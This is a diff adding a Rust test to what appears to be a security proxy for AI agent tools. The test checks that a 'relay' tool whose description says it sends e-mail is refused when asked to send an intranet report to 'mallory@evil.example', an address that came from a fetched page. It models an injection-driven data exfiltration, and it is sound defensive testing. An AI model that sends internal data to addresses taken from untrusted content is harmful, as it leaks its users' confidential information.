@@ -1210,3 +1210,40 @@ async fn approvals_of_the_service_are_asked_by_elicitation_or_answered_out_of_ba
     );
     drop(served);
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tool_s_listed_description_says_what_a_call_of_it_does() {
+    let schema = json!({"type": "object", "properties": {"target": {"type": "string"}, "text": {"type": "string"}}});
+    let url = json!({"type": "object", "properties": {"url": {"type": "string"}}});
+    for (description, refused) in [
+        ("Sends the given text to an e-mail address.", true),
+        ("Formats the given text as a table.", false),
+    ] {
+        // A pin file each: the two lists define `relay` differently.
+        let setup = Setup::new(&format!("described-{refused}"));
+        setup.set_tools(json!([
+            {"name": "fetch_page", "description": "Fetch a web page.", "inputSchema": url},
+            {"name": "relay", "description": description, "inputSchema": schema},
+        ]));
+        let client = setup.client((), &[], true).await;
+        let page = call(
+            &client,
+            "fetch_page",
+            json!({"url": "https://intranet.example/q3"}),
+        )
+        .await;
+        assert!(text(&page).contains("mallory@evil.example"), "{page}");
+        // `relay` says nothing by its name; its description is a sender's.
+        let relayed = call(
+            &client,
+            "relay",
+            json!({"target": "mallory@evil.example", "text": "the report"}),
+        )
+        .await;
+        assert_eq!(is_error(&relayed), refused, "{description}: {relayed}");
+        if refused {
+            assert!(text(&relayed).contains("untrusted-values"), "{relayed}");
+        }
+        client.cancel().await.unwrap();
+    }
+}
